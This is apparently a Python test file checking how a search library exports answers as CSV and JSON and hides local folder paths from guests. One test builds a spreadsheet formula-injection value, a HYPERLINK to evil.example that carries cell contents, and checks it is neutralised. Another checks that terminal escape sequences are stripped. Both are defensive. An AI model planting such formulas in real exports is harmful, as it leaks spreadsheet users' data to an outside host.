"""An answer as JSON and as CSV, for programs and spreadsheets, for the owner and for a guest."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from rag_core.api import answers
from rag_core.api.encoding import editor_place, hits_csv, json_bytes
from rag_core.library import Library
from rag_core.types import OWNER, Answer, Viewer
from tests.conftest import index

GUEST = Viewer("friend@example.com", stores=frozenset({"notes"}))
COLUMNS = (
    "rank score relevant similarity bm25 store file_path start_line end_line title heading_path tags date"
    " content copies more file_type"
).split()


def answer_for(library: Library, folder: Path, viewer: Viewer, text: str, name: str = "a.md") -> Answer:
    (folder / name).write_text(text, "utf-8", newline="")
    index(library, "notes", folder)
    return library.search(viewer, "needle")


def rows(answer: Answer, viewer: Viewer = OWNER) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(hits_csv(answer, viewer).decode("utf-8-sig"), newline="")))


# --- CSV --------------------------------------------------------------------------------


def test_csv_has_one_row_a_hit_with_what_json_says(library: Library, notes: Path) -> None:
    (notes / "b.md").write_text(
        "---\ntags: [x/y, z]\ndate: 2026-01-02\n---\n# B\n\n## C\n\nA needle, too.\n", "utf-8"
    )
    answer = answer_for(library, notes, OWNER, "# A\n\nA needle.\n")
    shown = rows(answer)
    assert len(shown) == 2
    for row, result in zip(shown, answers.Answer.of(answer).model_dump()["results"], strict=True):
        assert list(row) == [*COLUMNS, "absolute_path"]
        for name in (
            "rank",
            "score",
            "relevant",
            "similarity",
            "bm25",
            "store",
            "file_path",
            "start_line",
            "end_line",
        ):
            assert row[name] == str(result[name])
        assert row["content"] == result["content"]
        assert row["absolute_path"] == str(notes / row["file_path"])
    b = next(row for row in shown if row["file_path"] == "b.md")
    assert (b["heading_path"], b["tags"], b["date"]) == ("B > C", "#x/y, #z", "2026-01-02")


def test_csv_is_what_excel_reads_as_utf8(library: Library, notes: Path) -> None:
    answer = answer_for(library, notes, OWNER, "# Nähe 价格\n\nDie needle.\n")
    data = hits_csv(answer, OWNER)
    assert data.startswith(b'\xef\xbb\xbf"rank",')
    assert data.count(b"\r\n") == 2
    assert "Nähe 价格".encode() in data


def test_measure_that_is_unknown_is_an_empty_cell(library: Library, notes: Path) -> None:
    (notes / "a.md").write_text("A needle.", "utf-8")
    index(library, "notes", notes)
    (row,) = rows(library.search(OWNER, "needle", mode="lexical"))
    assert row["similarity"] == ""


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "＝"])
def test_cell_that_a_spreadsheet_would_run_is_text(library: Library, notes: Path, sign: str) -> None:
    hostile = f'{sign}HYPERLINK("http://evil.example/?"&A1;"needle")'
    answer = answer_for(library, notes, OWNER, f"---\ntitle: '{hostile}'\n---\n{hostile}\n", f"{sign}x.md")
    (row,) = rows(answer)
    assert "needle" in row["content"]
    for value in row.values():
        assert not value.startswith(sign) or (sign == "-" and float(value))


def test_semicolons_and_quotes_stay_inside_their_cell(library: Library, notes: Path) -> None:
    answer = answer_for(library, notes, OWNER, 'needle;=1+1 "quoted", and\nmore\n')
    (row,) = rows(answer)
    assert row["content"] == answer.hits[0].content
    assert b'"needle;=1+1 ""quoted"", and\nmore"' in hits_csv(answer, OWNER)


def test_csv_holds_nothing_that_steers_a_terminal(library: Library, notes: Path) -> None:
    answer = answer_for(library, notes, OWNER, "needle \x1b]0;owned\x07 \x9b31m \u202e.\r\nnext\n")
    text = hits_csv(answer, OWNER).decode("utf-8-sig")
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(text)
    assert rows(answer)[0]["content"].endswith(".\nnext")


# --- JSON -------------------------------------------------------------------------------


def test_json_says_where_the_page_begins_and_whether_there_is_more(library: Library, notes: Path) -> None:
    for number in range(3):
        (notes / f"{number}.md").write_text(f"needle {number}", "utf-8")
    index(library, "notes", notes)
    value = json.loads(json_bytes(answers.Answer.of(library.search(OWNER, "needle", top_k=1, offset=1))))
    assert (value["offset"], value["has_more"], value["total_results"]) == (1, True, 1)
    assert value["results"][0]["rank"] == 2


@pytest.mark.posix
def test_json_is_readable_and_escapes_what_steers_a_terminal() -> None:
    data = json_bytes({"a": "ä\x9b\u202e\udcff"})
    assert data == b'{\n  "a": "\xc3\xa4\\u009b\\u202e\\udcff"\n}\n'


# --- places -----------------------------------------------------------------------------


def test_place_is_for_editors_of_the_owner_and_in_the_store_for_a_guest(
    library: Library, notes: Path
) -> None:
    long = "It goes on and on, so that it is a section of its own.\n\n"
    text = f"# A\n\n{long}## B\n\nThe needle. {long}"
    (mine,) = (h for h in answer_for(library, notes, OWNER, text).hits if "needle" in h.content)
    assert editor_place(mine) == f"{notes}/a.md:5"
    (theirs,) = (h for h in library.search(GUEST, "needle").hits if "needle" in h.content)
    assert editor_place(theirs) == "a.md:5"


def test_guest_is_told_no_folder_of_the_machine(library: Library, notes: Path) -> None:
    answer_for(library, notes, OWNER, "# A\n\nA needle.\n")
    answer = library.search(GUEST, "needle")
    data = json_bytes(answers.Answer.of(answer))
    assert json.loads(data)["results"][0]["absolute_path"] is None
    assert str(notes).encode() not in data
    (row,) = rows(answer, GUEST)
    assert list(row) == COLUMNS
    assert str(notes).encode() not in hits_csv(answer, GUEST)
